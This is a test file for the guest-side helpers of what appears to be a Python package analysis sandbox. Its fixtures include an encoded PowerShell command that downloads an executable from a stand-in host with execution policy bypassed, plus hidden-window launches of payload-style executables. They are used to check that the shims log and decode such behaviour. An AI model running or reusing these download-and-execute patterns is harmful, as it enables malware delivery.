/**
 * The in-guest helpers that let a payload run, run here with the host's python3 (our own scripts,
 * no package code): inspect_dist.py's metadata reader on a CRLF PKG-INFO with a non-ASCII value
 * (it used to crash json with email.header.Header), the Windows shims' log and -EncodedCommand
 * decoding, and the traced tasks' sitecustomize (fallback path last, Windows stdlib names, Popen
 * dropping creationflags/startupinfo, a missing `.exe` running the generic shim).
 */
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

const GUEST = new URL('../guest/', import.meta.url).pathname;
let dir: string;
beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'pyti-guest-helpers-'));
});
afterEach(() => rmSync(dir, { recursive: true, force: true }));

const py = (code: string, env: Record<string, string> = {}): string =>
  execFileSync('python3', ['-c', code], { cwd: GUEST, env: { PATH: '/usr/bin:/bin', PYTHONDONTWRITEBYTECODE: '1', ...env }, encoding: 'utf8' });

test('inspect_dist reads a CRLF PKG-INFO with an accented author and summary as JSON-able strings', () => {
  const pkgInfo = join(dir, 'PKG-INFO');
  writeFileSync(pkgInfo, Buffer.from('Metadata-Version: 2.1\r\nName: caf\r\nVersion: 1.0\r\nSummary: Café crème\r\nAuthor: José Pérez\r\nRequires-Dist: requests\r\n\r\nLong description\r\n', 'utf8'));
  const out = JSON.parse(py(`import json, inspect_dist; print(json.dumps(inspect_dist.read_metadata(${JSON.stringify(pkgInfo)})))`)) as Record<string, unknown>;
  expect(out).toMatchObject({ name: 'caf', version: '1.0', summary: 'Café crème', requires_dist: ['requests'], metadata_version: '2.1' });
});

test('the powershell shim logs argv and the decoded -EncodedCommand (and its abbreviations), and exits 0', () => {
  const log = join(dir, 'shims.jsonl');
  const enc = Buffer.from('iwr http://x.invalid/p.exe -OutFile p.exe', 'utf16le').toString('base64');
  for (const opt of ['-EncodedCommand', '-enc', '-e', '/ec']) {
    execFileSync(join(GUEST, 'winshims', 'powershell.exe'), ['-NoP', '-ExecutionPolicy', 'Bypass', opt, enc], { env: { PYTI_SHIM_LOG: log } });
  }
  execFileSync(join(GUEST, 'winshims', 'cmd'), ['/c', 'start', 'x.exe'], { env: { PYTI_SHIM_LOG: log } });
  const entries = readFileSync(log, 'utf8').trim().split('\n').map((l) => JSON.parse(l) as { shim: string; argv: string[]; decoded?: string });
  expect(entries.map((e) => e.shim)).toEqual(['powershell.exe', 'powershell.exe', 'powershell.exe', 'powershell.exe', 'cmd']);
  expect(entries.slice(0, 4).map((e) => e.decoded)).toEqual(Array(4).fill('iwr http://x.invalid/p.exe -OutFile p.exe'));
  expect(entries[4]).toMatchObject({ argv: ['/c', 'start', 'x.exe'] });
  expect(entries[4]!.decoded).toBeUndefined();
});

test('sitecustomize: fallback modules last on sys.path; without PYTI_WINDOWS_SHIMS no Windows names', () => {
  const out = py('import sys, subprocess; print(sys.path[-1] if "/opt/pyti/fallback-modules" in sys.path else "-", hasattr(subprocess, "CREATE_NO_WINDOW"))',
    { PYTHONPATH: join(GUEST, 'site') });
  // The host has no /opt/pyti/fallback-modules: nothing is added there; the guest test (e2e) covers the path.
  expect(out.trim()).toBe('- False');
});

test('sitecustomize with PYTI_WINDOWS_SHIMS=1: Windows stdlib names, Popen drops creationflags, a missing .exe runs the shim', () => {
  const log = join(dir, 'shims.jsonl');
  const code = [
    'import os, subprocess',
    'si = subprocess.STARTUPINFO(); si.dwFlags |= subprocess.STARTF_USESHOWWINDOW; si.wShowWindow = subprocess.SW_HIDE',
    'r = subprocess.run(["true"], creationflags=subprocess.CREATE_NO_WINDOW | subprocess.DETACHED_PROCESS, startupinfo=si)',
    'subprocess.run(["C:\\\\Users\\\\a\\\\AppData\\\\upd.exe", "-silent"], creationflags=subprocess.CREATE_NEW_CONSOLE)',
    'os.startfile("payload.exe")',
    'subprocess.Popen("C:\\\\Temp\\\\x.exe -WindowStyle Hidden \\"a b\\"").wait()',
    'print(r.returncode, subprocess.CREATE_NO_WINDOW)',
  ].join('\n');
  const out = py(code, { PYTHONPATH: join(GUEST, 'site'), PYTI_WINDOWS_SHIMS: '1', PYTI_SHIM_LOG: log });
  expect(out.trim()).toBe(`0 ${0x08000000}`);
  const entries = readFileSync(log, 'utf8').trim().split('\n').map((l) => JSON.parse(l) as { shim: string; argv: string[] });
  expect(entries.map((e) => [e.shim, e.argv[0]])).toEqual([['C:\\Users\\a\\AppData\\upd.exe', '-silent'], ['os.startfile', 'payload.exe'], ['C:\\Temp\\x.exe', '-WindowStyle']]);
  // A command line given as one string without shell=True is split as Windows does
  expect(entries[2]!.argv).toEqual(['-WindowStyle', 'Hidden', 'a b']);
});

test('import_all: a distribution with no importable module (a meta-package, stubs only) passes, saying so in import.json', () => {
  const site = join(dir, 'site');
  const info = join(site, 'nomod-1.0.dist-info');
  execFileSync('mkdir', ['-p', info, join(dir, 'meta'), join(dir, 'raw')]);
  writeFileSync(join(info, 'METADATA'), 'Metadata-Version: 2.1\nName: nomod\nVersion: 1.0\n');
  writeFileSync(join(info, 'RECORD'), 'nomod-1.0.dist-info/METADATA,,\nnomod-1.0.dist-info/RECORD,,\n');
  writeFileSync(join(dir, 'meta', 'inspect.json'), JSON.stringify({ name: 'nomod' }));
  const out = execFileSync('python3', [join(GUEST, 'import_all.py'), join(dir, 'meta'), join(dir, 'raw')], { env: { PATH: '/usr/bin:/bin', PYTHONDONTWRITEBYTECODE: '1', PYTHONPATH: site }, encoding: 'utf8' });
  expect(out).toContain('no top-level module found');
  const j = JSON.parse(readFileSync(join(dir, 'raw', 'import.json'), 'utf8')) as { modules: unknown[]; error?: string; note: string };
  expect(j.modules).toEqual([]);
  expect(j.error).toBeUndefined();
  expect(j.note).toMatch(/^no top-level module found.*nothing to import$/);
});
